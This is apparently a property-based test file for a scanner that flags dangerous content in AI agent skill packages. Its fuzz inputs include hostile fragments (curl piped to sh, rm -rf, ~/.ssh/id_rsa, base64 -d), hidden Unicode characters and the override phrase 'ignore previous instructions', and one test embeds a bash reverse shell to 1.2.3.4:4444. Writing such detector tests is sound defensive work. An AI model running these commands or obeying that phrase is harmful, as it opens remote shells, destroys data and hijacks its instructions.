import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanSkill, type Severity } from '../../shared/scanner/index.js';

const RANK: Record<Severity, number> = { LOW: 0, MEDIUM: 1, HIGH: 2, CRITICAL: 3 };
/** Text with the characters that matter to the scanner: hidden, bidi, tags, newlines, code. */
const spicy = fc.string({
  unit: fc.oneof(
    fc.constantFrom('\u200B', '\u202E', '\u2066', '\uFEFF', '\u{E0041}', '\u{E0069}', '\n', '\r\n', '\t', '`', '"', '|', '~', '/', '\x07'),
    fc.constantFrom('curl ', 'rm -rf ', '~/.ssh/id_rsa', ' | sh', 'ignore previous instructions', 'base64 -d', '/dev/tcp/1.2.3.4/9 '),
    fc.string({ unit: 'grapheme', maxLength: 3 }),
  ),
  maxLength: 300,
});
const path = fc.constantFrom('SKILL.md', 'scripts/run.sh', 'main.py', 'package.json', 'requirements.txt', 'notes.txt', 'x');

describe('scanSkill on arbitrary input', () => {
  it('never throws and always returns a consistent report', () => {
    fc.assert(
      fc.property(fc.uniqueArray(fc.record({ path, text: spicy }), { maxLength: 4, selector: (f) => f.path }), (files) => {
        const r = scanSkill({ name: 'prop', files });
        const total = Object.values(r.counts).reduce((a, b) => a + b, 0);
        expect(total).toBe(r.findings.length);
        const worst = r.findings.reduce<Severity | null>((w, f) => (w === null || RANK[f.severity] > RANK[w] ? f.severity : w), null);
        expect(r.highest_severity).toBe(worst);
        expect(r.verdict).toBe(worst !== null && RANK[worst] >= RANK.HIGH ? 'unsafe' : 'safe');
        for (const f of r.findings) {
          const lines = files.find((x) => x.path === f.file)!.text.split(/\r?\n|\r/).length;
          expect(f.line).toBeGreaterThanOrEqual(1);
          expect(f.line).toBeLessThanOrEqual(lines);
          expect(f.excerpt.length).toBeLessThanOrEqual(162);
          expect(f.excerpt).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B\x00-\x08\u{E0000}-\u{E007F}]/u);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('moves a finding down by exactly the number of lines put in front of it', () => {
    const filler = fc.array(fc.stringMatching(/^[a-z ]{0,40}$/), { maxLength: 30 });
    fc.assert(
      fc.property(filler, (before) => {
        const text = [...before, 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'].join('\n');
        const r = scanSkill({ name: 'prop', files: [{ path: 'run.sh', text }] });
        expect(r.findings.find((f) => f.rule_id === 'RS001')?.line).toBe(before.length + 1);
      }),
      { numRuns: 100 },
    );
  });

  it('gives the same report for the same skill', () => {
    fc.assert(
      fc.property(spicy, (text) => {
        const a = scanSkill({ name: 'p', files: [{ path: 'SKILL.md', text }] });
        const b = scanSkill({ name: 'p', files: [{ path: 'SKILL.md', text }] });
        expect({ ...a, duration_ms: 0 }).toEqual({ ...b, duration_ms: 0 });
      }),
      { numRuns: 100 },
    );
  });
});
